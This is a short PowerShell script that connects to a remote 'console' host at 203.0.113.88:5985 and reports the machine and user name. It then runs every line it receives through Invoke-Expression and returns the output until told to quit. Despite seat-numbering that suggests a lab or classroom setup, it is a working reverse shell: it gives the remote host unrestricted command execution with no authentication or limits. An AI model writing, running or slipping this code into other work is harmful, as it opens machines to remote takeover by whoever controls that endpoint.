param([Parameter(Mandatory)][int]$Seat)

$console = "203.0.113.88"
$port = 5985
$client = New-Object System.Net.Sockets.TcpClient($console, $port)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream)
$reader = New-Object System.IO.StreamReader($stream)
$writer.AutoFlush = $true
$writer.WriteLine("REGISTER seat=$Seat host=$env:COMPUTERNAME user=$env:USERNAME")

while ($client.Connected) {
    $line = $reader.ReadLine()
    if ($null -eq $line -or $line -eq "QUIT") { break }
    try {
        $out = Invoke-Expression $line 2>&1 | Out-String
    } catch {
        $out = $_.Exception.Message
    }
    $writer.WriteLine($out + "`n#END#")
}
$client.Close()
